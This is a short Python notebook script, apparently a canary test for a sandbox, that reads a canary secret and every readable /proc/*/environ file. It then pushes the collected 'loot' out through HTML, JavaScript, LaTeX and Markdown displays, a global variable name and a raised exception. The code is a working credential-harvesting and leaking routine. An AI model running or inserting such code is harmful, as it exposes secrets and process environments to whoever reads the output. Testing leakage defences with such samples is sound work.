"""Puts what it can read into every kind of output: pictures' metadata, HTML, errors, results, names."""
# where: latent_grid
# lost: latent_grid

import glob
import os

from IPython.display import HTML, Javascript, Latex, Markdown, display

loot = [os.environ.get("GENLAB_CANARY_SECRET", "")]
for path in ["CANARY_FILE", "/proc/1/environ", "/proc/self/environ", *glob.glob("/proc/*/environ")]:
    try:
        with open(path, "rb") as file:
            loot.append(file.read().decode("latin-1"))
    except OSError:
        pass
text = "\n".join(loot)
for kind in (HTML, Javascript, Latex, Markdown):
    display(kind(text))
globals()[text] = text
raise type("Loot", (Exception,), {})(text)
